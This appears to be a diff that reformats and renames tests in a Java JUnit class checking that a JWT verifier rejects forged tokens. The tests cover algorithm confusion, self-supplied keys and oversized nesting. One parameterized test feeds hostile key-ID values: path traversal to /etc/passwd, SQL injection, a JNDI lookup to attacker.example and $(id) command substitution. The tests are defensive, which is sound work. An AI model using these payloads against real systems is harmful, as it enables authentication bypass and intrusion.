@@ -24,7 +24,7 @@ import org.junit.jupiter.params.provider.MethodSource;
 import org.junit.jupiter.params.provider.ValueSource;
 import org.springframework.util.unit.DataSize;
 
-/** What somebody without the issuer's private key can write into a token. */
+/** Tokens of an attacker without the issuer's private key. */
 class TokenAttackTests {
 
     private static final KeyPair RSA = Jwts.SIG.RS256.keyPair().build();
@@ -32,18 +32,28 @@ class TokenAttackTests {
     private static final KeyPair EC = Jwts.SIG.ES256.keyPair().build();
     private static final byte[] SECRET = "0123456789abcdef0123456789abcdef".getBytes(StandardCharsets.US_ASCII);
     private static final Instant NOW = Instant.parse("2030-01-01T00:00:00Z");
-    private static final String CLAIMS = "{\"sub\":\"alice\",\"exp\":" + NOW.plusSeconds(60).getEpochSecond() + "}";
+    private static final String CLAIMS =
+            "{\"sub\":\"alice\",\"exp\":" + NOW.plusSeconds(60).getEpochSecond() + "}";
 
     private final TokenVerifier byPublicKey = verifier(null, pem(RSA));
     private final TokenVerifier bySecret = verifier(new String(SECRET, StandardCharsets.US_ASCII), null);
 
     @Test
-    void honestTokensPass() throws TokenRejectedException {
-        assertThat(byPublicKey.verify(RawToken.rsa("{\"alg\":\"RS256\"}", CLAIMS, RSA.getPrivate())).getName())
+    void validTokensAreAccepted() throws TokenRejectedException {
+        assertThat(byPublicKey
+                        .verify(RawToken.rsa("{\"alg\":\"RS256\"}", CLAIMS, RSA.getPrivate()))
+                        .getName())
                 .isEqualTo("alice");
-        assertThat(bySecret.verify(RawToken.hmac("{\"alg\":\"HS256\"}", CLAIMS, SECRET)).getName()).isEqualTo("alice");
-        assertThat(verifier(null, pem(EC)).verify(Jwts.builder().subject("alice")
-                .expiration(Date.from(NOW.plusSeconds(60))).signWith(EC.getPrivate()).compact()).getName())
+        assertThat(bySecret.verify(RawToken.hmac("{\"alg\":\"HS256\"}", CLAIMS, SECRET))
+                        .getName())
+                .isEqualTo("alice");
+        assertThat(verifier(null, pem(EC))
+                        .verify(Jwts.builder()
+                                .subject("alice")
+                                .expiration(Date.from(NOW.plusSeconds(60)))
+                                .signWith(EC.getPrivate())
+                                .compact())
+                        .getName())
                 .isEqualTo("alice");
     }
 
@@ -59,7 +69,7 @@ class TokenAttackTests {
     }
 
     @Test
-    void publicKeyIsNoSecret() {
+    void publicKeyIsNotUsedAsASecret() {
         String header = "{\"alg\":\"HS256\"}";
         String pem = pem(RSA);
         List<byte[]> guesses = List.of(
@@ -89,7 +99,10 @@ class TokenAttackTests {
 
     @Test
     void tokenThatBringsOrNamesItsOwnKeyIsRefused() {
-        String own = Jwks.json(Jwks.builder().key((RSAPublicKey) OTHER_RSA.getPublic()).id("own").build());
+        String own = Jwks.json(Jwks.builder()
+                .key((RSAPublicKey) OTHER_RSA.getPublic())
+                .id("own")
+                .build());
         String header = "{\"alg\":\"RS256\",\"jwk\":" + own + "}";
         assertInvalid(byPublicKey, RawToken.rsa(header, CLAIMS, OTHER_RSA.getPrivate()));
         for (String extra : List.of(
@@ -101,18 +114,28 @@ class TokenAttackTests {
                 "\"crit\":[\"b64\"],\"b64\":false",
                 "\"b64\":false",
                 "\"zip\":\"DEF\"")) {
-            // Even with the right signature: such a header is never needed here.
+            // Also with a valid signature, because such a header is never needed.
             assertInvalid(byPublicKey, RawToken.rsa("{\"alg\":\"RS256\"," + extra + "}", CLAIMS, RSA.getPrivate()));
         }
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {"../../../../dev/null", "/etc/passwd", "' OR '1'='1", "x' UNION SELECT 'key'--", "",
-        "https://attacker.example/key", "${jndi:ldap://attacker.example/a}", "$(id)", "\\u0000"})
+    @ValueSource(
+            strings = {
+                "../../../../dev/null",
+                "/etc/passwd",
+                "' OR '1'='1",
+                "x' UNION SELECT 'key'--",
+                "",
+                "https://attacker.example/key",
+                "${jndi:ldap://attacker.example/a}",
+                "$(id)",
+                "\\u0000"
+            })
     void keyIdIsOnlyAName(String kid) {
         String header = "{\"alg\":\"RS256\",\"kid\":\"" + kid + "\"}";
         assertInvalid(byPublicKey, RawToken.rsa(header, CLAIMS, OTHER_RSA.getPrivate()));
-        // The classic one: the secret would be the content of an empty file.
+        // A known attack: the secret would be the content of an empty file.
         assertInvalid(bySecret, RawToken.hmac("{\"alg\":\"HS256\",\"kid\":\"" + kid + "\"}", CLAIMS, new byte[] {0}));
     }
 
@@ -147,7 +170,7 @@ class TokenAttackTests {
 
     @ParameterizedTest
     @MethodSource("nests")
-    void deepNestsDoNotHurt(String json) {
+    void deepNestingIsRefused(String json) {
         assertInvalid(bySecret, RawToken.with(json, CLAIMS, "AAAA"));
         assertInvalid(bySecret, RawToken.with("{\"alg\":\"HS256\",\"a\":" + json + "}", CLAIMS, "AAAA"));
         assertInvalid(bySecret, RawToken.with("{\"alg\":\"HS256\"}", json, "AAAA"));
@@ -166,23 +189,32 @@ class TokenAttackTests {
 
     @Test
     void encryptedTokenIsRefused() {
-        assertInvalid(byPublicKey, Jwts.builder().subject("alice").expiration(Date.from(NOW.plusSeconds(60)))
-                .encryptWith((RSAPublicKey) RSA.getPublic(), Jwts.KEY.RSA_OAEP_256, Jwts.ENC.A256GCM).compact());
+        assertInvalid(
+                byPublicKey,
+                Jwts.builder()
+                        .subject("alice")
+                        .expiration(Date.from(NOW.plusSeconds(60)))
+                        .encryptWith((RSAPublicKey) RSA.getPublic(), Jwts.KEY.RSA_OAEP_256, Jwts.ENC.A256GCM)
+                        .compact());
         assertInvalid(byPublicKey, "e30.e30.e30.e30.e30");
     }
 
-    private static TokenVerifier verifier(@Nullable String secret,
+    private static TokenVerifier verifier(
+            @Nullable String secret,
+            // spotless:off
             @Nullable String pem) {
         return new TokenVerifier(
                 new AuthProperties(secret, pem, null, AuthProperties.Jwks.NONE, List.of(), List.of(),
                         Duration.ofSeconds(5), true, "roles", DataSize.ofKilobytes(8)),
                 Clock.fixed(NOW, ZoneOffset.UTC));
+            // spotless:on
     }
 
     private static String pem(KeyPair pair) {
         assertThat(pair.getPublic()).isInstanceOfAny(RSAPublicKey.class, ECPublicKey.class);
         return "-----BEGIN PUBLIC KEY-----\n"
-                + Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(pair.getPublic().getEncoded())
+                + Base64.getMimeEncoder(64, new byte[] {'\n'})
+                        .encodeToString(pair.getPublic().getEncoded())
                 + "\n-----END PUBLIC KEY-----\n";
     }
 
